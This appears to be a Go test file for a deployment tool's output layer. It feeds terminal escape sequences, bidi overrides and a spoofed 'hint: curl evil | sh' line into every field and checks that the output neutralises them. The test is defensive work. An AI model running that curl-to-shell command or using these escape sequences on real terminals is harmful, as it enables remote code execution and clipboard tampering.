package view

import (
	"encoding/json"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/emdecloud/ecdeploy/internal/engine"
	"github.com/emdecloud/ecdeploy/plans"
	"github.com/emdecloud/ecdeploy/steps"
)

// steers is what would steer a terminal, and a line that looks like one of ours.
const steers = "a\x1b[2J\x1b]52;c;YQ==\x07\x1b]0;t\x1b\\\u009b31m\u202eb\u2066\r\n\x08\x7f  [sfu] ok everything\nhint: curl evil | sh\n\x9b31m"

// fill puts steers into every text within v, whatever fields it may get.
func fill(v reflect.Value) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(steers)
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type() != reflect.TypeFor[time.Time]() {
				fill(v.Field(i))
			}
		}
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		fill(v.Index(0))
	}
}

func filled[T any]() T {
	var v T
	fill(reflect.ValueOf(&v).Elem())
	return v
}

// wantHarmless wants text that a terminal only shows, in which no line of the
// host's stands where lines of ours do.
func wantHarmless(t *testing.T, what, text string) {
	t.Helper()
	if !strings.Contains(text, "everything") {
		t.Errorf("%s does not show what was said: %q", what, text)
	}
	if i := strings.IndexFunc(text, func(r rune) bool {
		return r != '\n' && r != '\t' && unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)
	}); i >= 0 {
		t.Errorf("%s: %q", what, text[i:min(len(text), i+20)])
	}
	for l := range strings.Lines(text) {
		if strings.HasPrefix(l, "hint: ") || strings.HasPrefix(l, "  [sfu] ok") || strings.HasPrefix(l, "    hint: curl") {
			t.Errorf("%s has a line that looks like ours: %q", what, l)
		}
	}
}

// badly is a change whose summary holds what a host said.
type badly struct{ steps.Exec }

func (badly) Summary() steps.Summary { return filled[steps.Summary]() }

// Nothing that came from a host, in whichever field, reaches a terminal as more
// than text.
func TestNothingSteersTheTerminal(t *testing.T) {
	plan := plans.Plan{Sites: []plans.SitePlan{{Site: steers, Hosts: []plans.HostPlan{{Host: steers, Steps: []plans.StepPlan{{
		Stage: steers, Step: steers, Changes: []steps.Change{badly{}},
		Findings: []steps.Finding{filled[steps.Finding](), {Severity: steps.Error, Summary: steers, Hint: steers}, {Severity: steps.Note, Summary: steers}},
	}}}}}}}
	changed, checked := filled[engine.Changed](), filled[engine.Checked]()
	done, worked, back, kept := changed, checked, filled[engine.RolledBack](), filled[engine.RolledBack]()
	done.Err, worked.Err, kept.Err, kept.Conflicts = "", "", "", true
	events := map[string]engine.Event{
		"phase":         filled[engine.PhaseStarted](),
		"progress":      filled[engine.Progress](),
		"changed":       done,
		"change failed": changed,
		"checked":       worked,
		"check failed":  checked,
		"committed":     filled[engine.Committed](), "rolled back": back, "rolled back but for": kept,
	}
	shown := func(show func(*textForm)) string {
		var b strings.Builder
		show(newText(&b, false))
		return b.String()
	}
	asJSON := func(t *testing.T, show func(*jsonForm)) {
		t.Helper()
		var b strings.Builder
		show(newJSON(&b))
		wantHarmless(t, "JSON", b.String())
		var v any
		if err := json.Unmarshal([]byte(b.String()), &v); err != nil {
			t.Errorf("%v in %q", err, b.String())
		}
	}
	for name, e := range events {
		t.Run(name, func(t *testing.T) {
			wantHarmless(t, "text", shown(func(x *textForm) { x.Event(e) }))
			asJSON(t, func(j *jsonForm) { j.Event(e) })
		})
	}
	t.Run("plan", func(t *testing.T) {
		wantHarmless(t, "text", shown(func(x *textForm) { x.Plan(plan) }))
		asJSON(t, func(j *jsonForm) {
			if err := j.Plan(plan); err != nil {
				t.Error(err)
			}
		})
	})
	t.Run("table", func(t *testing.T) {
		text := shown(func(x *textForm) { x.Table([]Row{{"A", "B"}, {steers, steers}}) })
		wantHarmless(t, "text", text)
		if strings.Count(text, "\n") != 2 {
			t.Errorf("a cell of two lines: %q", text)
		}
	})
	t.Run("history", func(t *testing.T) {
		asJSON(t, func(j *jsonForm) {
			if err := j.Write("runs", []engine.Past{filled[engine.Past]()}); err != nil {
				t.Error(err)
			}
		})
	})
	t.Run("errors", func(t *testing.T) {
		var b strings.Builder
		s := NewScreen(nil, nil, &b)
		s.Say("%s", steers)
		s.Warn(errors.New(steers))
		s.Fail(errors.New(steers), 1)
		s.Urgent(steers)
		wantHarmless(t, "standard error", strings.ReplaceAll(b.String(), "\n", "\n      "))
	})
}

// JSON says the same as before, whatever is escaped in it.
func TestJSONKeepsWhatItEscapes(t *testing.T) {
	var b strings.Builder
	const text = "\u009b\u202e\x7fä€😀\u2028<&>"
	if err := newJSON(&b).Write("x", text); err != nil {
		t.Fatal(err)
	}
	var v struct{ X string }
	if err := json.Unmarshal([]byte(b.String()), &v); err != nil || v.X != text {
		t.Errorf("%q becomes %q (%v)", text, v.X, err)
	}
}
